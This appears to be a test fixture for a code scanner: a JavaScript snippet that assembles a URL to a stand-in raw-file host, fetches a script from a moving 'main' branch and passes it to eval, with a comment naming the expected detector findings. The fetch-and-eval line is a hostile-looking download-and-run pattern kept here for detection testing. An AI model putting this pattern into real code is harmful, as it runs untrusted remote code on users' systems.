const base = 'https://raw.githubusercontent.example/' + ['stranger', 'tools'].join('/');
fetch(base + '/main/x.js').then((answer) => answer.text()).then(eval); // expect: url-analyzer/moving-branch-code, malicious-command/remote-eval
